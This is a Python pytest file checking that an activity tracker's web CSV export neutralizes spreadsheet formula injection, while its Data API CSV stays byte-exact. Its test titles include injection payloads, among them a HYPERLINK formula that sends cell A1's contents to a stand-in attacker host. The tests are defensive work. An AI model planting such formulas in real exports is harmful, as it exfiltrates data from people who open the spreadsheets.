"""CSV for spreadsheets is neutralized in the web app; the Data API's CSV stays byte-exact."""

from __future__ import annotations

import csv
import io

import pytest

from dayglass.core.clock import ManualClock

TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=1+1",  # ingest trims the tab: an `=` formula is left
]


@pytest.fixture
def clock() -> ManualClock:
    """Noon on Tuesday 2026-11-10 in Berlin."""
    return ManualClock.at_local("2026-11-10T12:00")


@pytest.fixture
def with_formulas(live_server, account):
    """Five minutes in a browser on each formula-like title, that morning."""
    events = [
        {
            "id": f"f{n}",
            "start": f"2026-11-10T09:{10 * n:02d}:00+01:00",
            "duration": 300,
            "app": "firefox",
            "title": title,
        }
        for n, title in enumerate(TITLES)
    ]
    with live_server.client(account.key) as client:
        answer = client.post("/api/v1/events", json={"device": "laptop", "events": events})
        assert answer.status_code == 200 and not answer.json()["rejected"], answer.text
    return account


def test_the_web_apps_csv_neutralizes_formulas(live_server, with_formulas, sign_in):
    browser = sign_in(with_formulas.email)
    params = {"begin": "2026-11-10", "end": "2026-11-10", "group_by": "document", "format": "csv"}
    answer = browser.get("/reports", params=params)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    documents = [row[2] for row in csv.reader(io.StringIO(answer.text))][1:]
    assert sorted(documents) == sorted("'" + t.lstrip("\t") for t in TITLES)
    for row in csv.reader(io.StringIO(answer.text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), row


def test_the_data_apis_csv_is_byte_exact(live_server, with_formulas):
    params = {
        "key": with_formulas.key,
        "perspective": "interval",
        "restrict_kind": "document",
        "restrict_begin": "2026-11-10",
        "restrict_end": "2026-11-10",
        "resolution_time": "hour",
    }
    with live_server.client() as client:
        answer = client.get("/anapi/data.csv", params=params)
    assert answer.status_code == 200, answer.text
    body = answer.content.decode()
    assert body.startswith(
        "Date,Time Spent (seconds),Number of People,Activity,Document,Category,Productivity\n"
    )
    documents = [row[4] for row in csv.reader(io.StringIO(body))][1:]
    assert sorted(documents) == sorted(t.lstrip("\t") for t in TITLES)  # no quote added
    for title in TITLES:  # each cell's bytes as RescueTime's CSV writes them
        cell = io.StringIO()
        csv.writer(cell, lineterminator="").writerow([title.lstrip("\t")])
        assert f",{cell.getvalue()},".encode() in answer.content
